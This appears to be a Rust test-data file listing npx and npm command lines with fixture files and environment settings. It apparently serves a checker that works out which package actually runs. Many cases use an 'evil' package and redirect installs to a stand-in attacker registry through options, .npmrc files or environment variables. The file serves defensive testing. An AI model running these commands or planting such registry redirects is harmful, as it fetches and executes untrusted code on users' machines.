//! The lines. `evil` is what runs and `good` what a careless reader reports, wherever the two can be told apart.

use super::super::table::Line;

/// A project's manifest, so that npm takes the folder as its project.
const PROJECT: (&str, &str) = ("package.json", "{\"name\": \"project\", \"version\": \"1.0.0\"}");
/// A local command without a package.
const LOCAL_TOOL: (&str, &str) = ("node_modules/.bin/tool", "{record}");

pub(super) const LINES: &[Line] = &[
    // Plain specs.
    Line::new("name", "npx evil"),
    Line::new("yes-name", "npx -y evil"),
    Line::new("long-yes", "npx --yes evil"),
    Line::new("version", "npx -y evil@1.2.3"),
    Line::new("range", "npx -y evil@^1.0.0"),
    Line::new("range-tilde", "npx -y evil@~1.2.0"),
    Line::new("range-major", "npx -y evil@1"),
    Line::new("range-x", "npx -y evil@1.x"),
    Line::new("range-star", "npx -y evil@*"),
    Line::new("range-or", "npx -y evil@<1.0.0"),
    Line::new("tag-latest", "npx -y evil@latest"),
    Line::new("tag-next", "npx -y evil@next"),
    Line::new("tag-unknown", "npx -y evil@nosuchtag"),
    Line::new("version-unknown", "npx -y evil@7.7.7"),
    Line::new("version-v", "npx -y evil@v1.2.3"),
    Line::new("version-equals", "npx -y evil@=1.2.3"),
    Line::new("empty-version", "npx -y evil@"),
    Line::new("scoped", "npx -y @s/srv"),
    Line::new("scoped-version", "npx -y @s/srv@1.2.3"),
    Line::new("scoped-tag", "npx -y @s/srv@next"),
    Line::new("scope-alone", "npx -y @s/"),
    Line::new("upper-case", "npx -y Evil"),
    Line::new("missing", "npx -y missing-package"),
    Line::new("arguments", "npx -y evil good --port 1"),
    Line::new("arguments-yes-behind", "npx evil -y"),
    Line::new("nothing", "npx"),
    // Options that take a value.
    Line::new("cache-value", "npx -y --cache {home}/good evil"),
    Line::new("cache-word", "npx -y --cache good evil"),
    Line::new("prefix-value", "npx -y --prefix good evil").files(&[("good/package.json", "{\"name\": \"good\"}")]),
    Line::new("tag-value", "npx -y --tag good evil"),
    Line::new("tag-value-next", "npx -y --tag next evil"),
    Line::new("n-value", "npx -n good evil"),
    Line::new("loglevel-value", "npx --loglevel silent evil"),
    Line::new("loglevel-equals", "npx --loglevel=silent evil"),
    Line::new("userconfig-value", "npx -y --userconfig {home}/.npmrc evil"),
    Line::new("script-shell-value", "npx -y --script-shell sh evil"),
    Line::new("node-options-value", "npx -y --node-options --no-warnings evil"),
    Line::new("workspace-value", "npx -y --workspace good evil").files(&[
        ("package.json", "{\"name\": \"project\", \"version\": \"1.0.0\", \"workspaces\": [\"good\"]}"),
        ("good/package.json", "{\"name\": \"good\", \"version\": \"1.0.0\"}"),
    ]),
    Line::new("otp-value", "npx -y --otp good evil"),
    Line::new("proxy-value", "npx -y --noproxy good evil"),
    Line::new("omit-value", "npx -y --omit dev evil"),
    Line::new("include-value", "npx -y --include dev evil"),
    Line::new("depth-value", "npx -y --depth 0 evil"),
    Line::new("before-value", "npx -y --before 2020-01-01 evil"),
    Line::new("location-value", "npx -y --location user evil"),
    Line::new("init-author-name", "npx -y --init-author-name good evil"),
    // Options that do not.
    Line::new("quiet", "npx -q evil"),
    Line::new("silent", "npx -s evil"),
    Line::new("verbose", "npx --verbose evil"),
    Line::new("offline", "npx --prefer-online evil"),
    Line::new("prefer-offline", "npx --prefer-offline -y evil"),
    Line::new("ignore-scripts", "npx --ignore-scripts evil"),
    Line::new("no-audit", "npx --no-audit evil"),
    Line::new("force", "npx --force evil"),
    Line::new("legacy-peer-deps", "npx --legacy-peer-deps evil"),
    Line::new("boolean-equals", "npx --yes=true evil"),
    Line::new("yes-false", "npx --yes=false evil"),
    Line::new("no", "npx --no evil"),
    Line::new("no-install", "npx --no-install evil"),
    Line::new("no-yes", "npx --no-yes evil"),
    Line::new("quiet-cluster", "npx -yq evil"),
    Line::new("shell-auto-fallback", "npx --shell-auto-fallback evil"),
    Line::new("ignore-existing", "npx --ignore-existing evil"),
    // Unknown options.
    Line::new("unknown-value", "npx -y --foo good evil"),
    Line::new("unknown-equals", "npx -y --foo=good evil"),
    Line::new("unknown-letter", "npx -y -z evil"),
    Line::new("unknown-no", "npx -y --no-foo evil"),
    Line::new("abbreviated-registry", "npx -y --regis https://attacker.registry.example/ evil"),
    Line::new("abbreviated-package", "npx -y --pack evil good"),
    // Packages and commands.
    Line::new("package-equals", "npx -y --package=evil evil"),
    Line::new("package-equals-good", "npx -y --package=evil good"),
    Line::new("package-value", "npx -y --package evil evil"),
    Line::new("p-value", "npx -y -p evil evil"),
    Line::new("p-cluster", "npx -yp evil evil"),
    Line::new("package-two", "npx -y -p evil -p other evil"),
    Line::new("package-two-second", "npx -y -p other -p evil evil"),
    Line::new("package-version", "npx -y --package=evil@1.2.3 evil"),
    Line::new("package-behind", "npx evil --package=other"),
    Line::new("package-scoped", "npx -y --package=@s/srv srv"),
    Line::new("package-alone", "npx -y --package=evil"),
    // Dashes.
    Line::new("dashes-first", "npx -y -- evil good"),
    Line::new("dashes-behind", "npx evil -- good"),
    Line::new("dashes-package", "npx -y --package=evil -- evil good"),
    // Aliases and specs that are no registry package.
    Line::new("alias", "npx -y decoy@npm:evil"),
    Line::new("alias-version", "npx -y decoy@npm:evil@1.2.3"),
    Line::new("alias-scoped", "npx -y decoy@npm:@s/srv@1.2.3"),
    Line::new("url", "npx -y https://registry.example/files/evil.tgz"),
    Line::new("url-attacker", "npx -y https://attacker.registry.example/files/evil.tgz"),
    Line::new("url-named", "npx -y decoy@https://registry.example/files/evil.tgz"),
    Line::new("github-shorthand", "npx -y github:owner/repo"),
    Line::new("github-bare", "npx -y owner/repo"),
    Line::new("github-reference", "npx -y github:owner/repo#main"),
    Line::new("git-https", "npx -y git+https://git.example.com/owner/repo.git"),
    Line::new("git-ssh", "npx -y git+ssh://git@git.example.com/owner/repo.git#v1"),
    Line::new("gitlab", "npx -y gitlab:owner/repo"),
    Line::new("folder", "npx -y ./tool").files(&[
        PROJECT,
        ("tool/package.json", "{\"name\": \"tool\", \"version\": \"1.0.0\", \"bin\": \"cli.sh\"}"),
        ("tool/cli.sh", "{record}"),
    ]),
    Line::new("folder-missing", "npx -y ./nothing").files(&[PROJECT]),
    // Shell strings.
    Line::new("call", "npx -c record-shell"),
    Line::new("call-equals", "npx --call=record-shell"),
    Line::new("call-words", "npx -c record-shell\u{a0}--port\u{a0}1"),
    Line::new("call-two", "npx -c record-shell&&record-shell"),
    Line::new("call-package", "npx -y -p evil -c record-shell"),
    Line::new("call-package-runs", "npx -y -p evil -c evil"),
    Line::new("call-and-words", "npx -c record-shell evil"),
    // Local copies.
    Line::new("local-tool", "npx -y tool").files(&[PROJECT, LOCAL_TOOL]),
    Line::new("local-tool-no-manifest", "npx -y tool").files(&[LOCAL_TOOL]),
    Line::new("local-tool-version", "npx -y tool@1.2.3").files(&[PROJECT, LOCAL_TOOL]),
    Line::new("local-tool-latest", "npx -y tool@latest").files(&[PROJECT, LOCAL_TOOL]),
    Line::new("local-tool-ancestor", "npx -y tool").files(&[PROJECT, LOCAL_TOOL, ("sub/x", "")]).cwd("{project}/sub"),
    Line::new("local-tool-home", "npx -y tool").files(&[PROJECT, ("{home}/node_modules/.bin/tool", "{record}")]),
    Line::new("local-tool-package-option", "npx -y --package=evil tool").files(&[PROJECT, LOCAL_TOOL]),
    Line::new("local-package", "npx -y @s/srv").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-package-same-version", "npx -y @s/srv@9.9.9").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-package-other-version", "npx -y @s/srv@1.2.3").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-package-range", "npx -y @s/srv@^9.0.0").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-package-range-misses", "npx -y @s/srv@^1.0.0").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-package-latest", "npx -y @s/srv@latest").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-package-ancestor", "npx -y @s/srv")
        .files(&[
            PROJECT,
            ("sub/deep/x", ""),
            (
                "node_modules/@s/srv/package.json",
                "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
            ),
            ("node_modules/@s/srv/cli.sh", "{record}"),
            ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
        ])
        .cwd("{project}/sub/deep"),
    Line::new("local-package-by-option", "npx -y --package=@s/srv srv").files(&[
        PROJECT,
        (
            "node_modules/@s/srv/package.json",
            "{\"name\": \"@s/srv\", \"version\": \"9.9.9\", \"bin\": {\"srv\": \"cli.sh\"}}",
        ),
        ("node_modules/@s/srv/cli.sh", "{record}"),
        ("node_modules/.bin/srv", "-> {project}/node_modules/@s/srv/cli.sh"),
    ]),
    Line::new("local-bin-of-other", "npx -y evil").files(&[
        PROJECT,
        (
            "node_modules/innocent/package.json",
            "{\"name\": \"innocent\", \"version\": \"1.0.0\", \"bin\": {\"evil\": \"cli.sh\"}}",
        ),
        ("node_modules/innocent/cli.sh", "{record}"),
        ("node_modules/.bin/evil", "-> {project}/node_modules/innocent/cli.sh"),
    ]),
    Line::new("own-package", "npx -y project").files(&[
        ("package.json", "{\"name\": \"project\", \"version\": \"1.0.0\", \"bin\": \"cli.sh\"}"),
        ("cli.sh", "{record}"),
    ]),
    Line::new("own-bin", "npx -y mine").files(&[
        ("package.json", "{\"name\": \"project\", \"version\": \"1.0.0\", \"bin\": {\"mine\": \"cli.sh\"}}"),
        ("cli.sh", "{record}"),
    ]),
    // Registries.
    Line::new("registry-option", "npx -y --registry https://attacker.registry.example/ evil"),
    Line::new("registry-equals", "npx -y --registry=https://attacker.registry.example/ evil"),
    Line::new("registry-option-behind", "npx evil --registry=https://attacker.registry.example/"),
    Line::new("registry-scope-option", "npx -y --@s:registry=https://attacker.registry.example/ @s/srv"),
    Line::new("registry-scope-option-other", "npx -y --@t:registry=https://attacker.registry.example/ @s/srv"),
    Line::new("registry-env", "npx -y evil").env(&[("npm_config_registry", "https://attacker.registry.example/")]),
    Line::new("registry-env-upper", "npx -y evil")
        .env(&[("NPM_CONFIG_REGISTRY", "https://attacker.registry.example/")]),
    Line::new("npmrc-project", "npx -y evil")
        .files(&[PROJECT, (".npmrc", "registry=https://attacker.registry.example/\n")]),
    Line::new("npmrc-project-no-manifest", "npx -y evil")
        .files(&[(".npmrc", "registry=https://attacker.registry.example/\n")]),
    Line::new("npmrc-project-scope", "npx -y @s/srv")
        .files(&[PROJECT, (".npmrc", "@s:registry=https://attacker.registry.example/\n")]),
    Line::new("npmrc-scope-beats-option", "npx -y --registry https://registry.example/ @s/srv")
        .files(&[PROJECT, (".npmrc", "@s:registry=https://attacker.registry.example/\n")]),
    Line::new("npmrc-option-beats-project", "npx -y --registry https://registry.example/ evil")
        .files(&[PROJECT, (".npmrc", "registry=https://attacker.registry.example/\n")]),
    Line::new("npmrc-ancestor", "npx -y evil")
        .files(&[PROJECT, (".npmrc", "registry=https://attacker.registry.example/\n"), ("sub/x", "")])
        .cwd("{project}/sub"),
    Line::new("npmrc-ancestor-unmarked", "npx -y evil")
        .files(&[(".npmrc", "registry=https://attacker.registry.example/\n"), ("sub/x", "")])
        .cwd("{project}/sub"),
    Line::new("npmrc-below-root-marker", "npx -y evil")
        .files(&[PROJECT, ("sub/.npmrc", "registry=https://attacker.registry.example/\n")])
        .cwd("{project}/sub"),
    Line::new("npmrc-variable", "npx -y evil")
        .files(&[PROJECT, (".npmrc", "registry=${WHERE}\n")])
        .env(&[("WHERE", "https://attacker.registry.example/")]),
    Line::new("npmrc-comment", "npx -y evil").files(&[
        PROJECT,
        (".npmrc", "; registry=https://attacker.registry.example/\n# registry=https://attacker.registry.example/\n"),
    ]),
    Line::new("npmrc-quoted", "npx -y evil")
        .files(&[PROJECT, (".npmrc", "registry = \"https://attacker.registry.example/\"\n")]),
    Line::new("npmrc-last-wins", "npx -y evil").files(&[
        PROJECT,
        (".npmrc", "registry=https://registry.example/\nregistry=https://attacker.registry.example/\n"),
    ]),
    Line::new("npmrc-env-beats-project", "npx -y evil")
        .files(&[PROJECT, (".npmrc", "registry=https://registry.example/\n")])
        .env(&[("npm_config_registry", "https://attacker.registry.example/")]),
    Line::new("userconfig-option", "npx -y --userconfig {project}/other.npmrc evil")
        .files(&[PROJECT, ("other.npmrc", "registry=https://attacker.registry.example/\n")]),
    Line::new("userconfig-env", "npx -y evil")
        .files(&[PROJECT, ("other.npmrc", "registry=https://attacker.registry.example/\n")])
        .env(&[("npm_config_userconfig", "{project}/other.npmrc")]),
    Line::new("npmrc-user", "npx -y evil").files(&[PROJECT, ("{home}/.npmrc", "registry=https://registry.example/\n")]),
    Line::new("npmrc-package-option", "npx -y good").files(&[PROJECT, (".npmrc", "package[]=evil\n")]),
    Line::new("env-package", "npx -y good").env(&[("npm_config_package", "evil")]),
    Line::new("npmrc-call", "npx -y good").files(&[PROJECT, (".npmrc", "call=record-shell\n")]),
    // npm itself.
    Line::new("npm-exec", "npm exec -y evil"),
    Line::new("npm-exec-yes-first", "npm -y exec evil"),
    Line::new("npm-x", "npm x -y evil"),
    Line::new("npm-exec-dashes", "npm exec -y -- evil good"),
    Line::new("npm-exec-package", "npm exec -y --package=evil -- evil"),
    Line::new("npm-exec-options-behind", "npm exec evil --registry=https://attacker.registry.example/ -y"),
    Line::new("npm-exec-call", "npm exec -c record-shell"),
    Line::new("npm-prefix-exec", "npm --prefix {project} exec -y evil").files(&[PROJECT]),
    Line::new("npm-create", "npm create -y evil"),
    Line::new("npm-init", "npm init -y evil"),
    Line::new("npm-init-scope", "npm init -y @s"),
    Line::new("npm-init-scoped", "npm init -y @s/srv"),
    Line::new("npm-init-version", "npm init -y evil@1.2.3"),
    Line::new("npm-innit", "npm innit -y evil"),
    Line::new("npm-run", "npm run serve")
        .files(&[("package.json", "{\"name\": \"project\", \"scripts\": {\"serve\": \"record-shell\"}}")]),
    Line::new("npm-start", "npm start")
        .files(&[("package.json", "{\"name\": \"project\", \"scripts\": {\"start\": \"record-shell\"}}")]),
    Line::new("npm-run-missing", "npm run nothing").files(&[PROJECT]),
];
